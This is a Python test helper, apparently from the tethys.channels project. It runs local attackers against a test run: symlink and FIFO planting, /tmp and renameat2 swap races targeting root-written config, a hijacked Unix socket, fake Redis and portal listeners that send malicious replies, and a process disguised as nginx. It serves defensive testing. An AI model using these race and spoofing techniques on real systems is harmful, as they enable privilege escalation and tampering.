# Copyright: (c) 2026, tethys.channels contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What goes on attacking while a run works. usage: attack.py NAME"""

# These race with the run: the bare system calls are the fastest.
# ruff: noqa: PTH104, PTH108, PTH208, PTH211

from __future__ import annotations

import contextlib
import ctypes
import os
import select
import socket
import ssl
import stat
import sys
import threading
import time
from pathlib import Path

HOME = Path("/var/lib/tethys")
CANARIES = Path("/etc/hostile")
SEEN = Path("/opt/hostile/seen")
OFF = Path("/opt/hostile/off")
SLEEPER = "/usr/local/sbin/hostile-sleeper"
LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_MOVED_TO, IN_CREATE = 0x80, 0x100


def resting(name: str) -> bool:
    """Return whether the test has paused this attacker."""
    if not (OFF / name).exists():
        return False
    time.sleep(0.05)
    return True


def count(name: str) -> None:
    """Record one more attack of this kind: the tests see by it that their attacker was active."""
    with contextlib.suppress(OSError), (SEEN / name).open("a", encoding="ascii") as file:
        file.write(".")


class Watch:
    """New names in a folder, from the kernel's notifications, which are faster than reading it and use no CPU."""

    def __init__(self, folder: Path) -> None:
        self.queue = LIBC.inotify_init1(os.O_NONBLOCK)
        if LIBC.inotify_add_watch(self.queue, os.fsencode(folder), IN_CREATE | IN_MOVED_TO) < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch")

    def wait(self) -> None:
        """Return as soon as there is one, or after a while, since the test may have paused this attacker."""
        if select.select([self.queue], [], [], 0.05)[0]:
            os.read(self.queue, 65536)


def logs() -> None:
    """As the portal's user: links and a FIFO where the logs are to be, put back whenever they are gone."""
    folder = Path("/var/log/tethys")
    while True:
        if not resting("logs"):
            with contextlib.suppress(OSError):
                link = folder / "tethys_asgi0.log"
                if not link.is_symlink():
                    link.unlink(missing_ok=True)
                    link.symlink_to(CANARIES / "log")
            with contextlib.suppress(OSError):
                pipe = folder / "tethys_asgi1.log"
                if not stat.S_ISFIFO(pipe.lstat().st_mode if os.path.lexists(pipe) else 0):
                    pipe.unlink(missing_ok=True)
                    os.mkfifo(pipe)
        time.sleep(0.02)


def work() -> None:
    """As the environment's owner: swap the names in a folder that root hands over, once, while root does it."""
    done: set[str] = set()
    watch = Watch(Path("/tmp"))
    while True:
        if resting("work"):
            continue
        for entry in os.scandir("/tmp"):
            if not entry.name.startswith("tethys_channels_") or entry.name in done:
                continue
            done.add(entry.name)
            count("work.tried")
            end = time.monotonic() + 2
            while time.monotonic() < end and not os.access(entry.path, os.W_OK):
                pass
            with contextlib.suppress(OSError):
                for name in os.listdir(entry.path)[::-1]:
                    os.rename(f"{entry.path}/{name}", f"{entry.path}/_{name}")
                    os.symlink(CANARIES / "private", f"{entry.path}/{name}")
                    count("work.swapped")
                # What the run needs comes back, or it would only fail.
                for name in os.listdir(entry.path):
                    if name.startswith("_"):
                        os.unlink(f"{entry.path}/{name[1:]}")
                        os.rename(f"{entry.path}/{name}", f"{entry.path}/{name[1:]}")
        watch.wait()


def exchange(one: Path, other: Path) -> None:
    """Exchange two names in one step, so that neither is ever missing."""
    if LIBC.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE):
        raise OSError(ctypes.get_errno(), "renameat2")


def config() -> None:
    """As the portal's user: while root writes portal_config.yml, replace it with a set-user-ID program of root."""
    real, other = HOME / "portal_config.yml", HOME / "portal_config.other"
    watch = Watch(HOME)
    while True:
        if resting("config"):
            continue
        if not any(name.endswith(".tethys_channels") for name in os.listdir(HOME)):
            watch.wait()
        else:
            for target in ("program", "settings.yml"):
                count("config.tried")
                with contextlib.suppress(OSError):
                    os.symlink(CANARIES / target, other)
                    exchange(real, other)
                    exchange(real, other)
                    if not other.is_symlink():
                        # The run has written over the link: undoing that is the owner's right, and shows nothing.
                        exchange(real, other)
                    count("config.swapped")
                with contextlib.suppress(OSError):
                    os.unlink(other)
            time.sleep(0.0002)


def answer_redis(connection: socket.socket, record: Path) -> None:
    """Record what a client sends; answer that all is well, then without an end."""
    with contextlib.suppress(OSError), connection:
        connection.settimeout(20)
        for _number in range(200):
            told = connection.recv(65536)
            if not told:
                return
            with record.open("ab") as file:
                file.write(told + b"\n--\n")
            if b"INFO" in told.upper() or b"SCAN" in told.upper():
                connection.sendall(b"$2000000000\r\nredis_version:7.0.15 \x1b[31m\x9b31m\r\n")
                with contextlib.suppress(OSError):
                    for _each in range(30_000):
                        connection.sendall(b"x" * 65536)
                return
            connection.sendall(b"+OK\r\n" * max(1, told.count(b"*")))


def answer_slowly() -> None:
    """As the portal's user: answer in the place of an ASGI process, with a header that never ends."""
    path = Path("/run/tethys/tethys_asgi0.sock")
    held: list[socket.socket] = []
    while True:
        if resting("socket"):
            continue
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as server:
            path.unlink(missing_ok=True)
            server.bind(str(path))
            server.listen(16)
            server.settimeout(1)
            ours = path.stat().st_ino
            while not (OFF / "socket").exists() and path.stat().st_ino == ours:
                with contextlib.suppress(socket.timeout):
                    connection, _address = server.accept()
                    count("socket.met")
                    connection.sendall(b"HTTP/1.1 200 OK\r\nX: ")
                    held.append(connection)
                for connection in held:
                    with contextlib.suppress(OSError):
                        connection.send(b"x", socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)


def stranger(port: int, record: str, tls: bool = False) -> None:
    """As nobody in particular: be the Redis, or the portal, that is expected there."""
    context = None
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain("/opt/hostile/other.crt", "/opt/hostile/other.key")
    name = record.partition(".")[0]
    while resting(name):
        pass
    with socket.create_server(("127.0.0.1", port)) as server:
        while True:
            connection, _address = server.accept()
            count(f"{name}.met")
            try:
                if context:
                    connection = context.wrap_socket(connection, server_side=True)
            except OSError as error:
                (SEEN / f"{name}.refused").write_text(str(error), encoding="utf-8")
                continue
            threading.Thread(target=answer_redis, args=(connection, SEEN / record), daemon=True).start()


def title() -> None:
    """As the portal's user: have a set-user-ID program of root's pass for nginx, with a configuration of one's own."""
    # The seconds that it sleeps for pass for the file of another option.
    os.execv(SLEEPER, ["nginx: master process nginx -c /opt/hostile/nginx.conf -e", "4000"])  # noqa: S606 - the attack


ATTACKS = {
    "logs": logs,
    "work": work,
    "config": config,
    "socket": answer_slowly,
    "title": title,
    "redis": lambda: stranger(6379, "redis.told"),
    "portal": lambda: stranger(8000, "portal.told"),
    "tls": lambda: stranger(7443, "tls.told", tls=True),
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]]()
